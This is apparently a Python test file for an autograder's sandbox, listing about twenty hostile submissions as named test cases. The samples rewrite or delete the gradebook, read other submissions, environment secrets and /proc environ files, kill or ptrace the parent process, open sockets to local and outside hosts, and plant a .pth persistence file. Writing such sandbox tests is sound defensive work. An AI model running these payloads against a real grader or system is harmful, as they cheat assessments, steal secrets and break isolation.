"""Damage the course, its processes or its secrets."""

from attacks import WRONG, attack

ATTACKS = [
    attack(
        "write points into the gradebook",
        """
import sqlite3
base = sqlite3.connect("COURSE/gradebook.db")
base.execute("update grade set auto_score = 198")
base.commit()
"""
        + WRONG,
    ),
    attack("empty the gradebook", "open('COURSE/gradebook.db', 'w').close()\n" + WRONG),
    attack("delete the gradebook", "import os\nos.remove('COURSE/gradebook.db')\n" + WRONG),
    attack(
        "change the gradebook's mode and times",
        """
import os
for change in (lambda p: os.chmod(p, 0o777), lambda p: os.utime(p, (1, 1))):
    try:
        change("COURSE/gradebook.db")
    except OSError:
        pass
"""
        + WRONG,
    ),
    attack(
        "write into the source notebook and the checks",
        """
import glob
for path in ["PACKAGE/secret_reference.py", *glob.glob("COURSE/**/*.ipynb", recursive=True)]:
    with open(path, "a") as file:
        file.write("x")
"""
        + WRONG,
    ),
    attack(
        "read another submission",
        "exec(open('COURSE/submitted/alice/answer.py').read())",
        beats_stock=True,
    ),
    attack(
        "read secrets of the environment",
        """
import glob, os
text = str(dict(os.environ))
for path in glob.glob("/proc/*/environ"):
    try:
        text += open(path, errors="replace").read()
    except OSError:
        pass
print(text)
def mean_squares(x):
    return 12.5 if "EXAMINER_TEST_SECRET" in text else 0.0
""",
    ),
    attack(
        "read the home directory",
        """
import os, pathlib
def mean_squares(x):
    homes = [pathlib.Path(p) for p in ("HOMEDIR", "/root", "/home", os.path.expanduser("~"))]
    return 12.5 if any((h / "examiner-test-canary").exists() for h in homes) else 0.0
""".replace("HOMEDIR", "COURSE/home"),
    ),
    attack(
        "write to the gradebook after grading",
        """
import atexit, os, time
atexit.register(lambda: open("COURSE/harmed", "w").close())
try:
    if os.fork() == 0:
        os.setsid()
        time.sleep(1)
        open("COURSE/harmed", "w").close()
        os._exit(0)
except OSError:
    pass
"""
        + WRONG,
    ),
    attack("end the process", "import os\nos._exit(0)", WRONG),
    attack("end the process in a function", "def mean_squares(x):\n    import os\n    os._exit(0)"),
    attack("crash the process", "import ctypes\nctypes.string_at(0)", WRONG),
    attack(
        "signal the parent, the group and everybody",
        """
import os, signal
for target in (os.getppid(), 0, -1, -os.getpgrp(), 1, 2):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
"""
        + WRONG,
    ),
    attack(
        "trace the parent",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in (os.getppid(), 1, 2, 3):
    libc.ptrace(16, pid, 0, 0)
    libc.process_vm_writev(pid, None, 0, None, 0, 0)
"""
        + WRONG,
    ),
    attack(
        "call out through a socket on this machine",
        """
import socket
def mean_squares(x):
    with socket.create_connection(("127.0.0.1", PORT), timeout=1) as s:
        s.sendall(repr(list(map(float, x))).encode())
        return float(s.recv(100))
""",
        beats_stock=True,
    ),
    attack(
        "call out to another machine",
        """
import urllib.request
def mean_squares(x):
    return float(urllib.request.urlopen("http://192.0.2.1/", timeout=1).read())
""",
    ),
    attack(
        "send a packet",
        """
import socket
for family in (socket.AF_INET, socket.AF_INET6):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.sendto(b"harm", ("127.0.0.1" if family == socket.AF_INET else "::1", PORT))
""",
        WRONG,
    ),
    attack(
        "call a unix socket",
        """
import socket
def mean_squares(x):
    s = socket.socket(socket.AF_UNIX)
    s.connect("COURSE/socket")
    s.sendall(repr(list(map(float, x))).encode())
    return float(s.recv(100))
""",
        beats_stock=True,
    ),
    attack(
        "call an abstract unix socket",
        """
import socket
def mean_squares(x):
    s = socket.socket(socket.AF_UNIX)
    s.connect("\\0examiner-test-PORT")
    s.sendall(repr(list(map(float, x))).encode())
    return float(s.recv(100))
""",
        beats_stock=True,
    ),
    attack(
        "write where Python looks at its next start",
        """
import os, site, sys
places = [*site.getsitepackages(), os.path.dirname(os.__file__), sys.prefix, "/usr/lib", "/etc"]
for place in places:
    try:
        open(place + "/examiner_harm.pth", "w").write("import os")
    except OSError:
        pass
print([p for p in places if os.path.exists(p + "/examiner_harm.pth")])
"""
        + WRONG,
    ),
]
